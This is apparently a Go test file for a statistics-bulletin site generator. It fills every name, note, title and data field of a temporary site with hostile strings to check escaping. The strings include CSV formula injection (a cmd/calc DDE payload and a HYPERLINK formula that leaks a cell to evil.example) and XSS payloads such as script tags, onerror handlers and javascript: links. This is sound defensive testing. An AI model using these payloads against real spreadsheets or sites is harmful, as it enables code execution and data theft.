package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"bulletin/internal/typeface"
)

// hostileTexts are names and notes that nobody should write, and somebody will: by
// mistake, by copying from a spreadsheet, or to have what they write run elsewhere.
// What runs sets `hostile`, which the test of the browser looks for.
func hostileTexts() []string {
	return []string{
		`=cmd|' /C calc'!A0`, `+1`, `@SUM(A1:A2)`, `-2`, `=1+1`, `＝1+1`, `x;=1+1`, `"=1+1"`, `'=1+1`, `''`, ` =1`,
		`=HYPERLINK("https://evil.example/?"&A1,"click")`,
		`</script><script>hostile=1</script>`, `<script src="https://evil.example/x.js"></script>`, `<!--<script>`, `-->`, `]]>`, `<![CDATA[`,
		`</title></style></textarea><img src=x onerror=hostile=1>`, `"><svg onload=hostile=1>`, `' onmouseover='hostile=1`,
		`javascript:hostile=1`, `[click](javascript:hostile=1)`, `![x](https://evil.example/x.png)`, `<https://evil.example/>`,
		`&amp; &lt;b&gt; &#x3c;`, `</svg><script>hostile=1</script>`, `<?xml version="1.0"?>`, `<!DOCTYPE html>`,
		`a "quoted" word`, `'single'`, "a `code` b", `a, b; c | d`, `back\slash \n \u003c`, `%3Cscript%3E %s %d`, `{{ arrivals }}`, `{{`, `${hostile=1}`, `*a* _b_ # c`, `[@key] [^1]`,
		"two\nlines", "a\ttab", "  spaces  within  ", `_x000D_ _x0041_`, `\.`, `NULL`, `true`, `1e5`, `007`, `2023-Q1`, `12/03`,
		"عربي \u200fRTL\u200e LTR", "\u2066isolated\u2069", "zero\u200bwidth\u200djoin", "soft\u00adhyphen", "nbsp\u00a0here", "a\u2028b\u2029c",
		"👩‍👩‍👧‍👦 🇷🇸", "e\u0301 Z\u0351\u0343\u034a\u035b", "ﬀ ǆ ß İ ı", "𝔘𝔫𝔦", "Šid Ђурђевдан Ελλάδα 漢字", strings.Repeat("long ", 40) + "name",
	}
}

// longNote has 10,000 characters, and a formula and the end of a script in them.
func longNote() string {
	const part = `A note that does not end. =1+1 </script> "quoted", é; `
	return string([]rune(strings.Repeat(part, 10000/len([]rune(part))+1))[:9999]) + "."
}

// hostileSite writes a site in which every hostile text is the name, the definition,
// the note and whatever else can be said, of something.
func hostileSite(t *testing.T) (dir string) {
	t.Helper()
	dir = t.TempDir()
	for name, text := range hostileFiles() {
		path := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(path), 0o777); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o666); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

func hostileFiles() map[string]string {
	var areas, groups, naming, indicators, dimensions, sources, cells, published, chapters, drawn strings.Builder
	files := map[string]string{}
	texts := hostileTexts()
	for i, text := range texts {
		q, id := strconv.QuoteToASCII(text), strconv.Itoa(i)
		cited := q
		if refusedInSources(text) {
			cited = "Office"
		}
		note := q
		if i == 0 {
			note = strconv.QuoteToASCII(longNote())
		}
		fmt.Fprintf(&areas, "  - {id: area-%s, name: %s, naming: note-%s}\n", id, q, id)
		fmt.Fprintf(&naming, "  note-%s: %s\n", id, q)
		fmt.Fprintf(&indicators, "- id: ind-%s\n  name: %s\n  unit: {one: %s, other: %s}\n  measure: flow\n  add: all\n  definition: %s\n  caveat: %s\n", id, q, q, q, q, q)
		fmt.Fprintf(&dimensions, "dim-%s:\n  name: %s\n  categories: {cat-%s: %s}\n", id, q, id, q)
		fmt.Fprintf(&sources, "src-%s: {publisher: %s, title: %s, issued: 2024, note: %s, covers: [2023-Q1, 2024-Q1], URL: \"https://example.org/%s\"}\n", id, cited, cited, cited, id)
		fmt.Fprintf(&cells, "  - {indicator: ind-%s, area: area-%s, period: 2024-Q1, source: src-%s, value: %d, note: %s, by: {dim-%s: {cat-%s: 120}}}\n", id, id, id, 200+i, note, id, id)
		fmt.Fprintf(&cells, "  - {indicator: ind-%s, area: area-%s, period: 2023-Q1, source: src-%s, value: %d, status: E, note: %s}\n", id, id, id, 300+i, q)
		fmt.Fprintf(&chapters, "  - area-%s\n", id)
		if i > 0 {
			fmt.Fprintf(&cells, "  - {indicator: ind-0, area: area-%s, period: 2024-Q1, source: src-%s, value: %d, note: %s}\n", id, id, 150+7*i, q)
		}
		words := inMarkdown(text)
		files["content/news/item-"+id+".md"] = fmt.Sprintf("---\naliases: [%q]\ntitle: %s\ndate: 2024-05-01\nlocation: %s\nsummary: %s\n---\n\n## %s\n\nSaid: %s\n", hostileAlias(i), strconv.QuoteToASCII(words), strconv.QuoteToASCII(words), strconv.QuoteToASCII(words), strings.Join(strings.Fields(words), " "), words)
		files["content/reports/2024-q1/area-"+id+".md"] = hostileChapter(id, words, text)
		if drawable(text) {
			fmt.Fprintf(&drawn, "area-%s, ", id)
		}
	}
	evil := strconv.QuoteToASCII(texts[12])
	fmt.Fprintf(&groups, "  - {id: everywhere, name: %s, members: [area-0, area-1, area-2, area-3]}\n", evil)
	fmt.Fprintf(&published, "edition: 2024-q1\ncells:\n  - {indicator: ind-12, area: area-12, period: 2024-Q1, value: 99, date: 2024-06-01}\n")
	files["data/site.yaml"] = "title: " + evil + "\ndescription: " + evil + "\nbaseURL: \"https://example.org/\"\npublisher: {name: " + evil + ", address: " + evil + ", email: a@example.org, url: \"https://example.org/\"}\nlicense: {name: " + evil + ", url: \"https://example.org/licence\"}\n"
	files["data/areas.yaml"] = "areas:\n" + areas.String() + "groups:\n" + groups.String() + "naming:\n" + naming.String()
	files["data/indicators.yaml"] = indicators.String()
	files["data/dimensions.yaml"] = dimensions.String()
	files["data/sources.yaml"] = sources.String()
	files["data/observations/all.yaml"] = "observations:\n" + cells.String()
	files["data/published/2024-q1.yaml"] = published.String()
	files["data/revisions.yaml"] = "- {indicator: ind-12, area: area-12, period: 2024-Q1, was: 99, now: 212, date: 2024-07-01, reason: " + evil + "}\n"
	title := strconv.QuoteToASCII(inMarkdown(texts[12]))
	files["content/reports/2024-q1/_index.md"] = "---\ntitle: " + title + "\nperiod: 2024-Q1\npublished: 2024-06-01\nareas:\n" + chapters.String() + "credits: {publisher: =1+1, authors: [\"@SUM(A1)\"]}\nsummary: " + title + "\n---\n\n```chart\ntype: bar\nindicator: ind-0\nareas: [" + strings.TrimSuffix(drawn.String(), ", ") + "]\nperiod: 2024-Q1\ntitle: " + title + "\n```\n"
	files["content/snapshots/2024-01.md"] = "---\ntitle: " + title + "\nperiod: 2024-01\nareas: [area-12]\nsummary: " + title + "\n---\n\nNothing is counted here.\n"
	files["content/_index.md"] = "---\ntitle: " + title + "\n---\n\nWords.\n"
	return files
}

// hostileChapter is a chapter that says a text wherever it can; its charts are drawn
// where the typeface of pictures has its characters, and refused with a hint elsewhere.
func hostileChapter(id, words, text string) string {
	q := strconv.QuoteToASCII(words)
	chapter := fmt.Sprintf("---\ntitle: %s\narea: area-%s\nheadline: {indicator: ind-%s, text: %s}\nsummary: %s\n---\n\nThere were {{ ind-%s }} people: %s\n", q, id, id, q, q, id, words)
	form := "table"
	if drawable(text) {
		form = "chart"
		chapter += "\n```chart\ntype: donut\nindicator: ind-" + id + "\nby: dim-" + id + "\ntitle: " + q + "\n```\n"
	}
	return chapter + "\n```" + form + "\ntype: bar\nindicator: ind-" + id + "\nareas: [area-" + id + "]\nperiods: [2023-Q1, 2024-Q1]\ntitle: " + q + "\nnote: " + q + "\n```\n"
}

// refusedInSources tells whether the register of sources refuses a text: where it
// would be read as a figure, a citation or a remark, or take more than a line.
func refusedInSources(text string) bool {
	return strings.Contains(text, "{{") || strings.Contains(text, "[@") || strings.ContainsAny(text, "\n\u2028\u2029")
}

// drawable tells whether a text can stand in a chart.
func drawable(text string) bool { return len(typeface.Missing(text)) == 0 }

// inMarkdown is a text whose signs say nothing in Markdown.
func inMarkdown(text string) string {
	var b strings.Builder
	for _, r := range text {
		if strings.ContainsRune("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~", r) {
			b.WriteByte('\\')
		}
		b.WriteRune(r)
	}
	return b.String()
}
